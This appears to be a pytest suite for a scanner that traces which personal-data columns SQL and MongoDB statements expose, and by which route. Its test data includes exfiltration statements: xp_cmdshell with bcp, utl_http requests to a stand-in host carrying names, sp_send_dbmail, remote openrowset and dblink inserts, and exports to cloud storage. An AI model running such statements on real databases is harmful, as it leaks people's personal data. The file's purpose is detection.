"""Engines read through sqlglot, and MongoDB: what their statements let out. What is not understood is never harmless."""

from __future__ import annotations

import json

import pyarrow as pa
import pytest

from scanner import lineage
from scanner.exposure import facts
from scanner.lineage import assign_shapes
from scanner.model import CUT_MARK, Column, Destination, Flow, Kind, Lineage, Schema, Table, TableRef

PEOPLE = TableRef("crm", "people")
ORDERS = TableRef("crm", "orders")
SCHEMA = Schema(
    "shop",
    "1",
    {
        PEOPLE: Table(
            PEOPLE,
            (Column("id"), Column("name", pii_class="PERSON"), Column("phone", pii_class="PHONE_NUMBER")),
            rows=1000,
            persons=1000,
            unique_keys=(("id",),),
        ),
        ORDERS: Table(ORDERS, (Column("id"), Column("person_id"), Column("total")), rows=5000),
    },
    default_schema="crm",
)
ENGINES = ["oracle", "mssql", "bigquery"]


def analyze(text: str | None, dialect: str, *logged: str) -> Lineage:
    return lineage.analyze(text, SCHEMA, logged=logged, dialect=dialect)


def leaves(made: Lineage) -> set[str]:
    return {o.column for o in made.outputs if o.table == PEOPLE and o.flow is not Flow.AGGREGATED}


@pytest.mark.parametrize("engine", ENGINES)
@pytest.mark.parametrize(
    ("text", "columns"),
    [
        ("select * from crm.people", {"id", "name", "phone"}),
        ("SELECT p.name FROM crm.PEOPLE p JOIN crm.orders o ON o.person_id = p.id WHERE o.total > 5", {"name"}),
        ("select upper(phone) from people", {"phone"}),
        ("select count(*) from crm.people", set()),
        ("with x as (select name from crm.people) select * from x", {"name"}),
        ("select total from crm.orders", set()),
    ],
)
def test_queries(engine: str, text: str, columns: set[str]) -> None:
    made = analyze(text, engine)
    assert made.kind is Kind.SELECT
    assert leaves(made) in (columns, {"*"} if columns == {"id", "name", "phone"} else columns)
    assert not made.unknown


@pytest.mark.parametrize(
    ("engine", "text"),
    [
        ("bigquery", "select * except (id) from `proj.crm.people`"),
        ("bigquery", "select to_json_string(p) from crm.people p"),
        ("bigquery", "export data options(uri='gs://b/*', format='CSV') as select name from crm.people"),
        ("mssql", "select name, phone from [crm].[people] for json auto"),
        ("mssql", "select top 10 * from crm.people with (nolock)"),
        ("mssql", "exec('select * from crm.people')"),
        ("mssql", "select * from openquery(other, 'select * from crm.people')"),
        ("mssql", "delete from crm.people output deleted.* where id = 1"),
        ("oracle", "select listagg(name, ',') within group (order by id) from crm.people"),
        ("oracle", "select dbms_xmlgen.getxml('select * from crm.people') from dual"),
        ("oracle", "begin for r in (select * from crm.people) loop null; end loop; end;"),
        ("oracle", "select name from crm.people" + CUT_MARK),
        ("oracle", "select from where people ((("),
        ("snowflake", "select object_construct(*) from crm.people"),
    ],
)
def test_never_harmless(engine: str, text: str) -> None:
    made = analyze(text, engine)
    found = facts("s", made, SCHEMA, statement=text)
    assert found.mode != "none", made
    assert {"crm.people.name"} <= set(found.pii_columns)


WAYS = [
    ("mssql", "exec xp_cmdshell 'bcp \"select name from crm.people\" queryout c:\\x.txt -T'", "program", Destination.PROGRAM),
    ("mssql", "insert into openrowset('SQLNCLI', 'srv'; 'u'; 'p', 'select a from t') select name from crm.people", "dblink",
     Destination.NETWORK),
    ("mssql", "exec msdb.dbo.sp_send_dbmail @query = 'select name from crm.people'", "notification", Destination.NETWORK),
    ("oracle", "select utl_http.request('http://x.example/' || name) from crm.people", "dblink", Destination.NETWORK),
    ("oracle", "insert into far@link select name from crm.people", "dblink", Destination.NETWORK),
    ("oracle", "begin for r in (select name from crm.people) loop utl_file.put_line(f, r.name); end loop; end;", "server_file",
     Destination.SERVER_FILE),
    ("oracle", "select dbms_xmlgen.getxml('select name from crm.people') from dual", "query_to_xml", Destination.CLIENT),
    ("snowflake", "copy into @st/x from (select name from crm.people)", "server_file", Destination.SERVER_FILE),
    ("snowflake", "copy into 's3://b/x' from crm.people storage_integration = i", "server_file", Destination.SERVER_FILE),
    ("bigquery", "export data options(uri='gs://b/x*') as select name from crm.people", "server_file", Destination.SERVER_FILE),
]  # fmt: skip


@pytest.mark.parametrize(("engine", "text", "word", "where"), WAYS, ids=[text[:40] for _, text, _, _ in WAYS])
def test_ways_out_of_their_own(engine: str, text: str, word: str, where: Destination) -> None:
    made = analyze(text, engine)
    found = facts("s", made, SCHEMA, statement=text, dialect=engine)
    assert word in made.techniques
    assert made.destination is where
    assert found.mode != "none", made
    assert "crm.people.name" in found.pii_columns


@pytest.mark.parametrize(
    ("engine", "text"),
    [
        ("mssql", "select 'xp_cmdshell', total from crm.orders -- openrowset"),
        ("oracle", "select total from crm.orders where total <> 1 /* utl_http a@b */"),
        ("snowflake", "copy into crm.people from @st/x"),
        ("snowflake", "copy into @st/x from crm.orders"),
        ("bigquery", "export data options(uri='gs://b/x*') as select total from crm.orders"),
    ],
)
def test_what_only_looks_like_them(engine: str, text: str) -> None:
    assert facts("s", analyze(text, engine), SCHEMA, statement=text, dialect=engine).mode == "none"


@pytest.mark.parametrize("engine", ENGINES)
def test_tables_that_only_the_log_names(engine: str) -> None:
    """Through a procedure, a view, or in a text that does not tell."""
    for text in (None, "select * from some_view", "call get_people()", "exec dbo.get_people"):
        made = analyze(text, engine, "crm.people")
        assert PEOPLE in made.tables
        assert facts("s", made, SCHEMA, logged=("crm.people",)).pii_columns, text


@pytest.mark.parametrize("engine", ENGINES)
def test_copies(engine: str) -> None:
    text = "select * into crm.copy from crm.people" if engine == "mssql" else "create table crm.copy as select * from crm.people"
    made = analyze(text, engine)
    assert (made.kind, made.written, made.destination) == (Kind.CREATE_AS, TableRef("crm", "copy"), Destination.TABLE)
    assert {o.table for o in made.written_columns} == {PEOPLE}
    made = analyze("insert into crm.other select name from crm.people", engine)
    assert (made.kind, made.written) == (Kind.INSERT, TableRef("crm", "other"))
    assert {o.column for o in made.written_columns} == {"name"}


@pytest.mark.parametrize("engine", ENGINES)
@pytest.mark.parametrize(
    "text", ["commit", "grant select on crm.people to x", "drop table crm.people", "update crm.orders set total = 1"]
)
def test_hands_nobody_over(engine: str, text: str) -> None:
    assert facts("s", analyze(text, engine), SCHEMA, statement=text).mode == "none"


def shapes(engine: str, *texts: str) -> list[str]:
    nothing = pa.array([""] * len(texts))
    return assign_shapes(pa.array(texts), nothing, nothing, dialect=engine).keys.to_pylist()  # type: ignore[no-any-return]


@pytest.mark.parametrize("engine", ENGINES)
def test_shapes(engine: str) -> None:
    one, two, other = shapes(
        engine,
        "select a from t where b = 1 and c = 'x'",
        "select a from t where b = 27 and c = 'it'",
        "select d from t where b = 1",
    )
    assert one == two != other
    limits = shapes(engine, "select a from t fetch first 10 rows only", "select a from t fetch first 99999 rows only")
    assert limits[0] != limits[1]
    hidden = shapes(engine, "select 1 -- ' \n from t -- '", "select 1 -- ' \n, ssn from t -- '")
    assert hidden[0] != hidden[1]


def test_strings_of_each_engine_hide_nothing() -> None:
    one, two = shapes("bigquery", "select 1 # ' \n from t # '", "select 1 # ' \n, ssn from t # '")
    assert one != two
    one, two = shapes("oracle", "select q'[it's]' from t", "select q'[it's]', ssn from t where 'a' = 'b'")
    assert one != two
    one, two = shapes("mssql", "select [a'b], 1 from t where x = 'y'", "select [a'b], ssn from t where x = 'y'")
    assert one != two


@pytest.mark.parametrize("engine", ENGINES)
def test_masked_shows_no_literal(engine: str) -> None:
    for text in ("select a from t where b = 'Kim' and c = 5 -- Lee", "select 'Kim", "begin x := 'Kim'; end"):
        shown = lineage.masked(text, engine)
        assert "Kim" not in shown
        assert "Lee" not in shown


# -- MongoDB ----------------------------------------------------------------------------------------------------------


def command(name: str, ns: str = "crm.people", **args: object) -> str:
    return json.dumps({"command": name, "ns": ns, "args": args | {"$db": "crm"}})


@pytest.mark.parametrize(
    "text",
    [
        command("find", find="people", filter={"name": "Kim"}),
        command("aggregate", aggregate="people", pipeline=[{"$group": {"_id": None, "all": {"$push": "$$ROOT"}}}]),
        command("getMore", getMore=5, collection="people"),
        command("distinct", distinct="people", key="name"),
        command("findAndModify", findAndModify="people", query={}),
        command("somethingNew", x="people"),
        command("aggregate", "crm.orders", aggregate="orders", pipeline=[{"$lookup": {"from": "people", "as": "p"}}]),
        "no JSON",
    ],
)
def test_mongodb_is_never_harmless(text: str) -> None:
    found = facts("s", analyze(text, "mongodb", "crm.orders" if "crm.orders" in text else "crm.people"), SCHEMA)
    assert found.mode != "none"
    assert "crm.people.name" in found.pii_columns


def test_mongodb_counts_and_copies() -> None:
    assert facts("s", analyze(command("count", count="people"), "mongodb", "crm.people"), SCHEMA).mode == "none"
    assert facts("s", analyze(command("insert", insert="people"), "mongodb", "crm.people"), SCHEMA).mode == "none"
    made = analyze(command("aggregate", pipeline=[{"$match": {}}, {"$out": "copy"}]), "mongodb", "crm.people")
    assert (made.kind, made.written) == (Kind.CREATE_AS, TableRef("crm", "copy"))
    assert analyze('{"command":"auditConfigure","param":{}}', "mongodb").techniques == ("audit_tampering",)
    assert analyze(command("find", limit=5), "mongodb", "crm.people").limit == 5


def test_mongodb_shapes() -> None:
    texts = [command("find", find="people", filter={"phone": phone}) for phone in ("010-1", "010-2")]
    one, two = shapes("mongodb", *texts)
    assert one == two
    assert "010-1" not in lineage.masked(texts[0], "mongodb")
    joins = [command("aggregate", pipeline=[{"$lookup": {"from": name}}]) for name in ("people", "orders")]
    one, two = shapes("mongodb", *joins)
    assert one != two
